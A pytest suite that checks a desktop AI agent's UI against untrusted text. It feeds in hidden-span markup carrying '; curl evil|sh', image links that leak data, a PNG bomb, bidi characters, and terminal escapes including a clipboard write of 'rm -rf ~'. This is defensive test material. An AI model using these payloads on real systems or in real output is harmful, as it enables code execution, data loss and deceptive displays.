"""Text of others is text (R01, R02, R04, R05, R07, R09): no markup, no pictures, no stall, nothing hidden."""

from __future__ import annotations

import base64
import os
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

import pytest
from chat_kit import Chat  # type: ignore[import-not-found]
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QApplication, QLabel, QTextBrowser, QTextEdit, QWidget
from tally_kit import Tally
from window_kit import Play, SmallDesk, until  # type: ignore[import-not-found]

from k2desk.core.events import (
    DecisionRequested,
    Record,
    StepFinished,
    StepStarted,
    TextDelta,
    ThoughtDelta,
    ToolFinished,
    ToolOutput,
    ToolStarted,
    TurnFinished,
    TurnStarted,
)
from k2desk.core.permissions import Confinement, Question
from k2desk.core.visible import hidden_names, visible
from k2desk.patch.hunks import hunks
from k2desk.sandbox.command import Command, shell
from k2desk.sandbox.runner import Runner
from k2desk.ui.controls import button, label, show_tip
from k2desk.ui.memory import Memory
from k2desk.ui.pane import panes
from k2desk.ui.runtime import Runtime
from k2desk.ui.window import Window

EVIL = '<span style="font-size:1px;color:white">; curl evil|sh </span><b>bold</b>'
BIDI = "\u202e\u2066\u200f\u061c"
STALL = 0.2
"""Seconds the window's thread may be busy without looking for a key; of the processor, not of the clock."""
HEAVY = {
    "one line of a megabyte": "x" * 1_000_000,
    "a megabyte of short words": "ab " * 333_000,
    "combining marks": "a" + "\u0301" * 100_000,
    "nested lists": "\n".join(f"{' ' * 2 * depth}- {depth}" for depth in range(300)),
    "nested quotes": "> " * 300 + "deep",
    "a wide table": "\n".join(
        ["|".join("abcdefghij" * 10), "|".join(["-"] * 100), *["|".join("x" * 100)] * 100]
    ),
    "unclosed emphasis": "*a **b " * 5_000,
    "many brackets": "[" * 5_000,
}  # fmt: skip


@pytest.fixture
def chat(dressed: QApplication) -> Iterator[Chat]:
    made = Chat()
    yield made
    made.close()


@pytest.fixture
def window(runtime: Runtime, folder: Path, dressed: QApplication) -> Iterator[Window]:
    made = Window(runtime, Memory(), folder)
    made.furnish(panes())
    made.build_rest()
    made.show()
    yield made
    made.deleteLater()


def say(chat: Chat, text: str) -> None:
    chat.tell(TurnStarted(1, "hello"), StepStarted(1, 1, "k2"), TextDelta(1, 1, text))
    chat.tell(StepFinished(1, 1, "stop"), TurnFinished(1, "done"))


def rich() -> list[str]:
    """Every widget that would take a text for markup, in every window there is."""
    found = []
    for top in QApplication.topLevelWidgets():
        for widget in [top, *top.findChildren(QWidget)]:
            if isinstance(widget, QLabel) and widget.textFormat() != Qt.TextFormat.PlainText:
                found.append(f"{type(widget).__name__} {widget.text()!r}")
            if isinstance(widget, QTextBrowser) or (
                isinstance(widget, QTextEdit) and widget.acceptRichText()
            ):
                found.append(type(widget).__name__)
            if "<" in widget.toolTip() and not widget.toolTip().startswith("<qt>"):
                found.append(f"tooltip {widget.toolTip()!r}")
    return found


def test_r04_no_widget_of_the_window_guesses(
    window: Window, runtime: Runtime, play: Play, folder: Path, desk: SmallDesk
) -> None:
    evil = folder.parent / "<b>evil"
    evil.mkdir()
    (evil / "<i>a.py").write_text("x = 1\n")

    async def scenario() -> None:
        runtime.open_session(evil)
        await until(lambda: runtime.engine is not None)
        for spec in window.specs:
            window.show_pane(spec.id)
        runtime.noticed.emit("bad", EVIL)
        question = Question("command", EVIL, EVIL, "d", facts=((EVIL, EVIL),), confinement=EVIL)
        engine = desk.engines[-1]
        for event in (
            TurnStarted(1, EVIL),
            StepStarted(1, 1, EVIL),
            TextDelta(1, 1, EVIL),
            ToolStarted("c1", "run_command", EVIL, EVIL),
            ToolOutput("c1", EVIL),
            ToolFinished("c1", "run_command", "failed", EVIL, EVIL),
            DecisionRequested("r1", "c1", question),
        ):
            engine.log.append(event)
        await until(lambda: EVIL in [found.text() for found in window.findChildren(QLabel)])

    play(scenario)
    assert rich() == []


def test_r04_a_tooltip_shows_markup_as_text(dressed: QApplication) -> None:
    made = QWidget()
    show_tip(made, f"{EVIL}\nsecond")
    assert made.toolTip().startswith("<qt>&lt;span")
    assert "<br>second" in made.toolTip()
    show_tip(made, "plain & simple")
    assert made.toolTip() == "plain & simple"
    assert label(EVIL).textFormat() == Qt.TextFormat.PlainText
    assert button("x", lambda: None, tip=EVIL).toolTip().startswith("<qt>&lt;")
    made.deleteLater()


def test_r01_no_picture_is_fetched(chat: Chat) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        base = f"http://127.0.0.1:{listener.getsockname()[1]}"
        say(
            chat,
            f"![a]({base}/leak?d=1) ![b][ref] <img src='{base}/2'>\n\n[ref]: {base}/3\n\n"
            f"<div style=\"background:url({base}/4)\">x</div> <svg><image href='{base}/5'/></svg>\n\n"
            f"<link rel=stylesheet href={base}/6> <iframe src={base}/7></iframe> {base}/8 <{base}/9>\n",
        )
        chat.screen()
        QApplication.processEvents()
        with pytest.raises(BlockingIOError):
            listener.accept()


def test_r02_nothing_local_is_opened(chat: Chat, tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    huge = zlib.compress(b"\0" * 50_000)
    header = struct.pack(">I4s2I5B", 13, b"IHDR", 50_000, 50_000, 8, 6, 0, 0, 0)
    bomb = base64.b64encode(b"\x89PNG\r\n\x1a\n" + header + huge)
    before = set(os.listdir("/proc/self/fd")) if os.path.isdir("/proc/self/fd") else set()
    say(
        chat,
        f"![c](file:///dev/zero) ![d]({pipe}) ![e](//127.0.0.1/x) ![f](\\\\127.0.0.1\\x) "
        f"![h](/dev/zero)\n\n"
        f"![g](data:image/png;base64,{bomb.decode()}) <img src=file://{pipe}>\n",
    )
    chat.screen()
    QApplication.processEvents()
    if before:
        assert len(os.listdir("/proc/self/fd")) <= len(before) + 1
    # A pipe somebody reads would let itself be opened for writing.
    with pytest.raises(OSError, match="No such device"):
        os.open(pipe, os.O_WRONLY | os.O_NONBLOCK)


@pytest.mark.parametrize("what", HEAVY)
def test_r09_nothing_makes_the_window_stand_still(chat: Chat, what: str, tally: Tally) -> None:
    text = HEAVY[what]
    told = (
        *(TurnStarted(1, "hello"), StepStarted(1, 1, "k2"), TextDelta(1, 1, text)),
        *(StepFinished(1, 1, "stop"), TurnFinished(1, "done")),
        *(TurnStarted(2, text), StepStarted(2, 1, "k2"), ThoughtDelta(2, 1, text)),
        *(ToolStarted("c1", "run_command", "Run it"), ToolOutput("c1", text[:200_000])),
    )
    busy: dict[str, float] = {}

    def spend(name: str, step: Callable[[], object]) -> None:
        """Take a step between which and the next the loop turns; what traces lines does not count."""
        tracing = sys.gettrace()
        sys.settrace(None)
        try:
            begun = time.thread_time()
            step()
            busy[name] = time.thread_time() - begun
        finally:
            sys.settrace(tracing)

    def show(record: Record) -> None:
        chat.view.apply(chat.transcript.apply(record))

    for number, event in enumerate(told):
        record = Record("s", number + 1, 1_000_000.0, event, "0" * 64)
        name = f"{number} {type(event).__name__}"
        spend(f"{name} told", partial(show, record))
        spend(f"{name} laid out", chat.view.flush)
        spend(f"{name} painted", QApplication.processEvents)
    chat.seq = len(told)
    for detail in ("everything", "answers"):
        spend(detail, partial(chat.view.set_detail, detail))
        spend(f"{detail} painted", QApplication.processEvents)
    tally("busy ms", max(busy.values()) * 1000)
    assert {name: seconds for name, seconds in busy.items() if seconds > STALL} == {}


def test_r05_what_turns_text_around_is_shown(chat: Chat) -> None:
    say(chat, f"run `ls{BIDI}`")
    chat.tell(ToolStarted("c1", "run_command", f"Run ls{BIDI}", f'{{"command": "ls{BIDI}"}}'))
    chat.tell(
        ToolOutput("c1", f"out{BIDI}"), ToolFinished("c1", "run_command", "ok", f"out{BIDI}", f"0{BIDI}")
    )
    chat.view.chosen.choose_all()
    painted = chat.view.chosen.text()
    assert "run ls⟨U+202E⟩" in painted
    assert "Run ls⟨U+202E⟩" in painted
    assert not [sign for sign in BIDI if sign in painted]


def test_r05_in_a_diff_it_is_marked_and_counted(chat: Chat) -> None:
    source = f"if access == 'user{BIDI} # admin':\n    go()\n"
    shown = visible(source)
    assert not [sign for sign in BIDI if sign in shown]
    assert hidden_names(source)[0].startswith("U+202E")
    [made] = hunks(b"a\n", source.encode())
    assert source.split("\n")[0].encode() in b"".join(line.data for line in made.lines)  # copied as it is


OUTPUT = (
    "\x1b]0;pwned\x07title \x1b]52;c;cm0gLXJmIH4=\x07clip \x1b]8;;https://evil.test\x07link\x1b]8;;\x07 "
    "hidden\rshown ab\x08\x08cd \x9b31mred \x1b[2J\x1b[1;1Hgone \x1b[8minvisible\x1b[0m\n"
)


async def test_r07_what_programs_say_moves_and_hides_nothing(chat: Chat, tmp_path: Path) -> None:
    (tmp_path / "said").write_text(OUTPUT)
    QApplication.clipboard().setText("mine")
    title = chat.view.window().windowTitle()
    runner = Runner(Confinement("tree", "no sandbox", "Install bubblewrap."))
    done = await runner.run(Command(shell("cat said"), tmp_path, tmp_path))
    assert not any(sign in done.output for sign in "\x1b\x07\x08\x9b\r")
    for word in ("title", "clip", "link", "hidden", "shown", "red", "gone", "invisible"):
        assert word in done.output
    chat.tell(TurnStarted(1, "hello"), StepStarted(1, 1, "k2"), ToolStarted("c1", "run_command", "Run it"))
    chat.tell(ToolOutput("c1", done.output), ToolFinished("c1", "run_command", "ok", done.output, "0"))
    chat.screen()
    assert QApplication.clipboard().text() == "mine"
    assert chat.view.window().windowTitle() == title
